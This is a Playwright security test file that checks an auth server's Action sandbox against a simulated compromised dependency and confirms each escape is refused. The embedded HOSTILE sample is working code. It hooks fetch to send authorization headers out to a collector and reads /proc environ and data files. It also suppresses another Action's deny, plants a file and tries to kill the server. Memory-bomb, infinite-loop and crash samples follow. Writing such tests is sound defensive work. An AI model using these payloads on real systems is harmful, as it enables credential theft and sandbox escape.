import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { followResetLink, requestReset } from "../e2e/fixtures/reset";
import { signIn } from "../e2e/fixtures/users";
import type { ReceivedHook } from "../e2e/fixtures/webhook-service";
import { AUTH_SECRET, managementToken, startCluster, type Cluster } from "./fixtures/cluster";

// A production server (embedded database, in-process worker) whose post-challenge Actions are
// hostile: a compromised dependency of one Action tries, during real resets, every escape found
// against the shared-thread sandbox (issue 11, item 10). The server must keep serving, the other
// Action's deny must hold, and nothing of the server or of the other file may leave.
// Ports 3800–3809 are this suite's.

const PASSWORD = "Lantern-Quarry-4711";
const PARTNER_KEY = `partner-key-${crypto.randomBytes(8).toString("hex")}`;
const DENY_REASON = "Resets of this account need a call to support.";

test.describe.configure({ mode: "serial" });

let cluster: Cluster;
let baseUrl: string;
const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "rekey-escapes-data-"));

test.beforeAll(async () => {
  cluster = await startCluster({
    name: "escapes",
    servers: 1,
    workers: 0,
    postgres: false,
    basePort: 3800,
    env: {
      // Scoped to 20-deny.js: the hostile file must never see it.
      ACTION_SECRET_PARTNER_KEY__DENY: PARTNER_KEY,
      // The embedded database (argon2 hashes, the sealed keys): told to the hostile file, which
      // could not learn it from the environment.
      DATA_DIR: dataDir,
      ACTION_SECRET_DATA_DIR__HOSTILE: dataDir,
      ACTION_TIMEOUT_MS: "5000",
    },
  });
  baseUrl = cluster.servers[0]!.url!;
  process.env.E2E_MAILBOX_API = cluster.mailbox.apiUrl;
});

test.afterAll(async () => {
  await cluster?.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

test.use({ baseURL: "http://localhost:3800" });

async function newUser(): Promise<string> {
  const token = await managementToken(baseUrl);
  const email = `escape-${crypto.randomBytes(4).toString("hex")}@example.com`;
  const response = await fetch(`${baseUrl}/api/v2/users`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    body: JSON.stringify({ connection: "Username-Password-Authentication", email, password: PASSWORD }),
  });
  expect(response.status, await response.clone().text()).toBe(201);
  return email;
}

/** The newest tenant log line saying why a post-challenge Action failed. */
async function lastActionFailure(): Promise<string> {
  const token = await managementToken(baseUrl);
  const response = await fetch(`${baseUrl}/api/v2/logs?${new URLSearchParams({ q: "type:actions_execution_failed", per_page: "1" })}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const [log] = (await response.json()) as Array<{ description: string }>;
  return log?.description ?? "";
}

/** The webhooks that arrived under `path` (waits for `count` of them; 0 answers at once). */
async function received(path: string, count: number): Promise<ReceivedHook[]> {
  const response = await fetch(`${cluster.webhooks.base}/received?${new URLSearchParams({ path, count: String(count) })}`);
  return (await response.json()) as ReceivedHook[];
}

function onlyActions(files: Record<string, string>) {
  const removers = Object.entries(files).map(([name, source]) => cluster.dropAction("password-reset-post-challenge", name, source));
  return () => removers.forEach((remove) => remove());
}

async function expectServing(page: Page) {
  expect(cluster.servers[0]!.child.exitCode).toBeNull();
  const health = await fetch(`${baseUrl}/api/health`);
  expect(health.status).toBe(200);
  await page.goto("/login");
  await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
}

/** The reset's outcome page after the email link: which error it shows. */
async function resetThroughLink(page: Page, email: string) {
  const mail = await requestReset(page, email);
  await followResetLink(page, mail.link);
  await expect(page).toHaveURL(/\/reset\/error\?code=/);
  return new URL(page.url()).searchParams.get("code");
}

// The compromised dependency, as it would run inside 10-hostile.js. At load it patches the channel
// its sandbox reports on (to drop every api.access.deny) and the global fetch (to copy the headers
// of any call that carries a secret); on each execution it tries the rest and reports to its
// "collection server" (the suite's webhook receiver).
const HOSTILE = `
const fs = require("node:fs");
const wt = require("node:worker_threads");
const [target, method] = wt.parentPort ? [wt.parentPort, "postMessage"] : [process, "send"];
const report = target[method].bind(target);
target[method] = (msg, ...rest) => {
  if (msg && msg.type === "result" && Array.isArray(msg.commands)) msg.commands = msg.commands.filter((c) => c.type !== "access.deny");
  return report(msg, ...rest);
};
let collector;
const realFetch = globalThis.fetch;
globalThis.fetch = (url, init) => {
  const headers = init && init.headers;
  if (collector && headers && JSON.stringify(headers).includes("authorization")) {
    realFetch(collector + "/hook/stolen", { method: "POST", body: JSON.stringify(headers) }).catch(() => {});
  }
  return realFetch(url, init);
};
const attempt = (fn) => { try { return { got: String(fn()).slice(0, 300) }; } catch (error) { return { refused: error.code || error.message }; } };

exports.onExecutePostChallenge = async (event) => {
  collector = event.secrets.WEBHOOK_BASE;
  // The server's own process: the thread's, or this process's parent.
  const serverPid = wt.parentPort ? process.pid : process.ppid;
  const found = {
    env: Object.keys(process.env),
    environ: attempt(() => fs.readFileSync("/proc/self/environ", "latin1")),
    serverEnviron: attempt(() => fs.readFileSync("/proc/" + serverPid + "/environ", "latin1")),
    dataDir: attempt(() => fs.readdirSync(event.secrets.DATA_DIR).join(",")),
    projectFile: attempt(() => fs.readFileSync(process.cwd() + "/package.json", "utf8")),
    write: attempt(() => { fs.writeFileSync(__dirname + "/40-planted.js", "exports.onExecutePostChallenge = async () => {};"); return "written"; }),
    worker: attempt(() => new wt.Worker("1", { eval: true }) && "started"),
    signal: attempt(() => { process.kill(serverPid, "SIGKILL"); return "sent"; }),
    childProcess: attempt(() => require("node:child_process").execSync("kill -9 " + serverPid).toString() || "ran"),
  };
  // Results for executions this process does not run: forged, and ignored.
  for (const id of ["forged", "00000000-0000-4000-8000-000000000000"]) report({ type: "result", id, ok: true, loaded: true, commands: [] });
  await realFetch(collector + "/hook/escape-report", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(found) });
};
`;

// The Action the attack is against: it calls its partner with its own secret, then denies.
const DENY = `
exports.onExecutePostChallenge = async (event, api) => {
  await fetch(event.secrets.WEBHOOK_BASE + "/hook/partner", { method: "POST", headers: { authorization: "Bearer " + event.secrets.PARTNER_KEY }, body: event.user.email });
  api.access.deny(${JSON.stringify(DENY_REASON)});
};
`;

test("a compromised dependency in one Action cannot cancel another's deny, read its secrets, the server's secrets or files, write, spawn or stop the server", async ({ page }) => {
  const remove = onlyActions({ "10-hostile.js": HOSTILE, "20-deny.js": DENY });
  try {
    const email = await newUser();
    // Twice: the second reset meets the hostile file's process warm, patches in place.
    for (let round = 1; round <= 2; round++) {
      expect(await resetThroughLink(page, email)).toBe("RESET_DENIED");
      await expect(page.getByRole("main").getByRole("alert")).toHaveText(DENY_REASON);
      const [partner] = (await received("/hook/partner", round)).slice(round - 1);
      expect(partner!.headers.authorization).toBe(`Bearer ${PARTNER_KEY}`);
    }

    const reports = await received("/hook/escape-report", 2);
    for (const { body } of reports) {
      const found = body as Record<string, unknown>;
      expect(found.env as string[]).toEqual((found.env as string[]).filter((name) => ["TZ", "NODE_EXTRA_CA_CERTS"].includes(name)));
      for (const escape of ["environ", "serverEnviron", "dataDir", "projectFile", "write", "worker", "childProcess"]) {
        expect(found[escape], escape).toEqual({ refused: "ERR_ACCESS_DENIED" });
      }
      expect(found.signal).toEqual({ refused: "process.kill() is not available to Actions." });
      const text = JSON.stringify(found);
      for (const secret of [AUTH_SECRET, PARTNER_KEY, "DATABASE_URL", "SMTP_URL"]) expect(text).not.toContain(secret);
    }
    expect(await received("/hook/stolen", 0)).toEqual([]);
    await expectServing(page);
    // The deny held: the password is the old one.
    await signIn(page, email, PASSWORD);
    await expect(page).toHaveURL(/\/account$/);
    await page.context().clearCookies();
  } finally {
    remove();
  }
});

test("a memory bomb, an endless loop, process.exit and a crash each fail their reset closed; the server keeps serving and the deny still holds", async ({ page }) => {
  const failures: Record<string, [source: string, why: RegExp]> = {
    "10-buffers.js": [
      `exports.onExecutePostChallenge = async () => {
        globalThis.hoard = [];
        for (let i = 0; i < 64; i++) globalThis.hoard.push(Buffer.alloc(10 * 1024 * 1024, 1)); // 640 MB
        await new Promise(() => {});
      };`,
      /used more than its memory limit \(128 MB/,
    ],
    "10-loop.js": [`exports.onExecutePostChallenge = async () => { for (;;) {} };`, /did not finish within 5000 ms/],
    "10-exit.js": [`exports.onExecutePostChallenge = async () => { process.exit(1); };`, /called process\.exit\(1\)/],
    "10-crash.js": [
      `exports.onExecutePostChallenge = async () => { setImmediate(() => { throw new Error("thrown outside the handler"); }); await new Promise(() => {}); };`,
      /Uncaught exception: thrown outside the handler/,
    ],
  };
  const email = await newUser();
  for (const [name, [source, why]] of Object.entries(failures)) {
    const remove = onlyActions({ [name]: source });
    try {
      expect(await resetThroughLink(page, email), name).toBe("RESET_FAILED");
      expect(await lastActionFailure()).toMatch(why);
      await expectServing(page);
      await page.context().clearCookies();
    } finally {
      remove();
    }
  }

  const remove = onlyActions({ "20-deny.js": DENY });
  try {
    expect(await resetThroughLink(page, email)).toBe("RESET_DENIED");
    await expect(page.getByRole("main").getByRole("alert")).toHaveText(DENY_REASON);
  } finally {
    remove();
  }
});
